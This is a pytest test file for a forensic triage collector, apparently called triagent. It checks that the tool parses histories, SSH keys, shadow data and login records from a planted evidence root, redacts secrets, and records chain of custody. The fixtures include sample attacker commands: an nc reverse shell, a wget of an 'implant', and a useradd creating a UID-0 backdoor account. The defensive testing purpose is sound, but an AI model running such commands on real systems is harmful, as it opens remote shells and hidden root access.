"""collect --root over a planted evidence root: every positive item parsed, no secret shipped,
the bundle verifies and dissect.target opens it as it is."""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import os
import subprocess
import tarfile

import fakeroot
import pytest
from conftest import jsonl, members, raw_tar_bytes, run_triagent, summary_of


@pytest.fixture(scope="module")
def collected(evidence_root, tmp_path_factory):
    root, expected = evidence_root
    out = tmp_path_factory.mktemp("out")
    proc = run_triagent(["collect", "--root", str(root), "--output", str(out), "--case-id", "IR-42",
                         "--examiner", "Dana"])
    assert proc.returncode == 0, proc.stderr.decode()[-3000:]
    summary = summary_of(proc)
    return root, expected, summary, members(summary["bundle"])


@pytest.fixture(scope="module")
def collected_full(tmp_path_factory):
    """The full profile over a root of its own (its parsers read files and move their access times)."""
    root = tmp_path_factory.mktemp("evidence-root-full")
    expected = fakeroot.build(root)
    out = tmp_path_factory.mktemp("out-full")
    proc = run_triagent(["collect", "--root", str(root), "--output", str(out), "--profile", "full"])
    assert proc.returncode == 0, proc.stderr.decode()[-3000:]
    summary = summary_of(proc)
    return root, expected, summary, members(summary["bundle"])


def _unpacked(data: bytes) -> bytes:
    """A member's bytes, and for a compressed member its content as well."""
    try:
        if data[:2] == b"\x1f\x8b":
            return data + gzip.decompress(data)
        if data[:6] == b"\xfd7zXZ\x00":
            return data + lzma.decompress(data)
        if data[:3] == b"BZh":
            return data + bz2.decompress(data)
        if data[:4] == b"\x28\xb5\x2f\xfd":
            from backports import zstd
            return data + zstd.decompress(data)
    except (OSError, EOFError, ValueError, ImportError, lzma.LZMAError):
        pass
    return data


def _everything(bundle: str, found: dict[str, bytes]) -> bytes:
    with tarfile.open(bundle) as tar:
        names = [m.name.encode() + b"\n" + m.linkname.encode() for m in tar.getmembers()]
    return b"\n".join([_unpacked(data) for data in found.values()] + names)


@pytest.mark.parametrize("profile", ["triage", "full"])
def test_no_secret_anywhere_in_the_bundle(request, profile):
    _, expected, summary, m = request.getfixturevalue("collected" if profile == "triage" else "collected_full")
    everything = _everything(summary["bundle"], m)
    leaked = [s for s in expected.secrets if s in everything]
    assert not leaked, f"{profile}: secret bytes in the bundle: {leaked}"
    for path in expected.withheld:
        assert f"fs/$rootfs${path}" not in m, path


def test_secret_files_withheld_by_path_and_content(collected_full):
    _, expected, _, m = collected_full
    log = [json.loads(line) for line in m["triagent/collection.log.jsonl"].splitlines()]
    withheld = {e.get("path"): e["message"] for e in log if "withheld" in e["message"]}
    for path, why in expected.withheld.items():
        if path.startswith("/etc/"):  # the full profile copies /etc/**; homes' credential files are not copied
            assert path in withheld, (path, sorted(withheld))
            if why != "path":
                assert why in withheld[path], (path, withheld[path])
    assert "fs/$rootfs$/root/.aws/config" not in m or b"region" in m["fs/$rootfs$/root/.aws/config"]


def test_typed_secrets_masked_in_records_and_copies(collected, collected_full):
    for _, expected, _, m in (collected, collected_full):
        records = {r["command"]: r for r in jsonl(m, "histories") if r["user"] == "bob" and r["shell"] == "bash"}
        for typed, masked in expected.masked_commands.items():
            assert typed not in records and masked in records, (masked, sorted(records))
            assert records[masked]["redacted"] and records[masked]["redacted"][0]["field"] == "command"
        assert "redacted" not in records["ls -la"]
        copy = m["fs/$rootfs$/home/bob/.bash_history"]
        assert b"mysql -uroot -p********* appdb\n" in copy and b"S3cretPW1" not in copy
        unit = m["fs/$rootfs$/etc/systemd/system/db-backup.service"]
        assert b"ExecStart=/usr/bin/mysqldump -uroot -p************ --all-databases" in unit
    manifest = json.loads(collected[3]["triagent/manifest.json"])
    entry = next(e for e in manifest["members"] if e["name"] == "fs/$rootfs$/home/bob/.bash_history")
    assert entry["size"] == os.stat(collected[0] / "home/bob/.bash_history").st_size  # length kept
    netdev = collected_full[3]["fs/$rootfs$/etc/systemd/network/30-wg0.netdev"]
    assert b"PrivateKey=****" in netdev
    ovpn = collected_full[3]["fs/$rootfs$/etc/openvpn/client/corp.conf"]
    assert b"<tls-auth>\n" in ovpn and b"</tls-auth>\n" in ovpn


def test_summary_and_sidecar(collected):
    _, _, summary, _ = collected
    assert summary["status"] == "complete" and summary["profile"] == "triage"
    assert summary["artifacts"]["not_live"] >= 5  # volatile collectors report "not live" under --root
    sidecar = open(summary["bundle"] + ".sha256").read().split()
    assert sidecar == [summary["sha256"], os.path.basename(summary["bundle"])]


def test_every_history_format_parsed(collected):
    _, expected, _, m = collected
    records = jsonl(m, "histories")
    for shell, commands in expected.commands.items():
        found = [r["command"] for r in records if r["shell"] == shell]
        for command in commands:
            assert command in found, f"{shell}: {command!r} not in {found}"
    by_command = {r["command"]: r for r in records}
    for command, epoch in expected.timestamps.items():
        from collectors.util import utc
        assert by_command[command]["timestamp_utc"] == utc(epoch)
    assert by_command["useradd -o -u 0 toor"]["user"] == "root"
    assert by_command["nc -e /bin/sh 192.0.2.1 4444"]["user"] == "carol"  # home outside /home


def test_authorized_keys_with_options_and_authorizedkeysfile(collected):
    _, expected, _, m = collected
    keys = [k for k in jsonl(m, "ssh_keys") if k["kind"] == "authorized_keys"]
    for want in expected.authorized:
        match = [k for k in keys if k["path"] == want["path"] and k.get("fingerprint") == want["fingerprint"]]
        assert match, f"{want} not found in {keys}"
        got = match[0]
        assert got["key_type"] == want["key_type"]
        assert [o["name"] for o in got["options"]] == want["options"]
        opts = {o["name"]: o.get("value") for o in got["options"]}
        if "command" in want:
            assert opts["command"] == want["command"] and opts["from"] == want["from"]
            assert got["comment"] == want["comment"]


def test_private_keys_described_never_shipped(collected):
    root, expected, summary, m = collected
    described = {k["path"]: k for k in jsonl(m, "ssh_private_keys")}
    for want in expected.private_keys:
        got = described[want["path"]]
        assert got["encrypted"] == want["encrypted"]
        assert got["fingerprint"] == want["fingerprint"]
        assert f"fs/$rootfs${want['path']}" not in m
    tar = raw_tar_bytes(summary["bundle"])
    leaked = [s for s in expected.secrets if s in tar]
    assert not leaked, f"secret material in the bundle: {leaked[:3]}"
    assert b"PRIVATE KEY-----\nb3Blbn" not in tar


def test_shadow_facts_without_hashes(collected):
    _, expected, _, m = collected
    shadow = {r["account"]: r for r in jsonl(m, "shadow")}
    for account, scheme in expected.shadow.items():
        assert shadow[account]["scheme"] == scheme and "password_hash" not in shadow[account]
    assert shadow["carol"]["status"].startswith("empty password")
    assert shadow["bob"]["locked"] is True
    assert "fs/$rootfs$/etc/shadow" not in m and "fs/$rootfs$/etc/passwd" in m


def test_login_records(collected):
    _, expected, _, m = collected
    wtmp = jsonl(m, "wtmp")
    assert any(r["user"] == "alice" and r["address"] == "198.51.100.7" and r["type"] == "USER_PROCESS" for r in wtmp)
    assert any(r["type"] == "BOOT_TIME" for r in wtmp)
    assert [r["user"] for r in jsonl(m, "btmp")] == expected.failed_logins
    lastlog = jsonl(m, "lastlog")
    assert [(r["uid"], r["host"]) for r in lastlog] == [(1000, "198.51.100.7")]
    assert lastlog[0]["user"] == "alice"


def test_raw_copies_keep_original_metadata(collected):
    root, _, _, m = collected
    manifest = json.loads(m["triagent/manifest.json"])
    entries = {e["name"]: e for e in manifest["members"]}
    st = os.stat(root / "root/.bash_history")
    entry = entries["fs/$rootfs$/root/.bash_history"]
    assert (entry["mode"], entry["uid"], entry["gid"]) == (0o600, st.st_uid, st.st_gid)
    assert (entry["mtime_ns"], entry["atime_ns"], entry["ctime_ns"]) == (st.st_mtime_ns, st.st_atime_ns, st.st_ctime_ns)
    assert entry["source"] == "/root/.bash_history" and len(entry["sha256"]) == 64
    for name, data in m.items():
        if name not in ("triagent/manifest.json", "triagent/seal.json"):
            import hashlib
            assert entries[name]["sha256"] == hashlib.sha256(data).hexdigest(), name


def test_custody_record(collected):
    _, _, summary, m = collected
    custody = json.loads(m["triagent/custody.json"])
    assert custody["case_id"] == "IR-42" and custody["examiner"] == "Dana"
    assert custody["status"] == "complete"
    assert custody["started_utc"].endswith("Z") and custody["ended_utc"].endswith("Z")
    assert custody["tool"]["version"] and (custody["tool"].get("binary_sha256") or custody["tool"].get("source_sha256"))
    assert custody["host"]["hostname_file"] == "fakehost"
    assert "collect" in custody["command_line"]
    assert {a["name"] for a in custody["artifacts"]} >= {"processes", "histories", "ssh"}
    assert custody["priority"]["nice"] >= 10 and custody["priority"]["ionice"] == "best-effort/7"  # gentle by default
    assert custody["priority"]["oom_score_adj"] == 1000  # the OOM killer takes us before any host process


def test_verify_cli(collected):
    _, _, summary, _ = collected
    ok = run_triagent(["verify", summary["bundle"]])
    assert ok.returncode == 0 and json.loads(ok.stdout)["verified"] is True


def test_dissect_target_opens_the_bundle(collected):
    _, expected, summary, _ = collected
    from dissect.target import Target

    target = Target.open(summary["bundle"])
    users = {u.name for u in target.users()}
    assert {"root", "alice", "bob", "carol"} <= users
    history = {str(r.command) for r in target.commandhistory()}
    assert "useradd -o -u 0 toor" in history and "wget http://203.0.113.9/implant" in history
    query = subprocess.run([os.path.join(os.path.dirname(os.sys.executable), "target-query"), summary["bundle"],
                            "-f", "users,commandhistory", "-s"], capture_output=True, timeout=300)
    assert query.returncode == 0 and b"useradd -o -u 0 toor" in query.stdout, query.stderr[-2000:]


def test_include_secrets_opt_in(evidence_root, tmp_path):
    root, expected = evidence_root
    proc = run_triagent(["collect", "--root", str(root), "--output", str(tmp_path), "--profile", "triage",
                         "--artifacts", "ssh,accounts,histories", "--include-secrets"])
    summary = summary_of(proc)
    m = members(summary["bundle"])
    assert "fs/$rootfs$/etc/shadow" in m and "fs/$rootfs$/root/.ssh/id_ed25519" in m
    assert any(r.get("password_hash") for r in jsonl(m, "shadow"))
    commands = {r["command"]: r for r in jsonl(m, "histories")}
    for typed in expected.masked_commands:  # nothing masked either
        assert typed in commands and "redacted" not in commands[typed]
    assert b"mysql -uroot -pS3cretPW1 appdb\n" in m["fs/$rootfs$/home/bob/.bash_history"]


def test_stream_to_stdout(evidence_root, tmp_path):
    root, _ = evidence_root
    out = tmp_path / "stream.tar.gz"
    with open(out, "wb") as f:
        proc = run_triagent(["collect", "--root", str(root), "--output", "-", "--artifacts", "histories"],
                            stdout=f, stderr=subprocess.PIPE, capture_output=False)
    assert proc.returncode == 0
    summary = json.loads(proc.stderr.decode().strip().splitlines()[-1])
    assert summary["bundle"] == "stdout"
    import hashlib
    assert hashlib.sha256(out.read_bytes()).hexdigest() == summary["sha256"]
    verified = run_triagent(["verify", "-"], stdin=open(out, "rb"))
    assert json.loads(verified.stdout)["verified"] is True
    assert sorted(os.listdir(tmp_path)) == ["stream.tar.gz"]


def test_usage_errors_exit_2(tmp_path):
    for args in (["collect", "--output", str(tmp_path), "--profile", "nope"], ["collect"], ["bogus"],
                 ["collect", "--output", str(tmp_path), "--artifacts", "no.such"]):
        proc = run_triagent(args)
        assert proc.returncode == 2, (args, proc.stderr)
        assert proc.stdout == b""
    assert os.listdir(tmp_path) == []
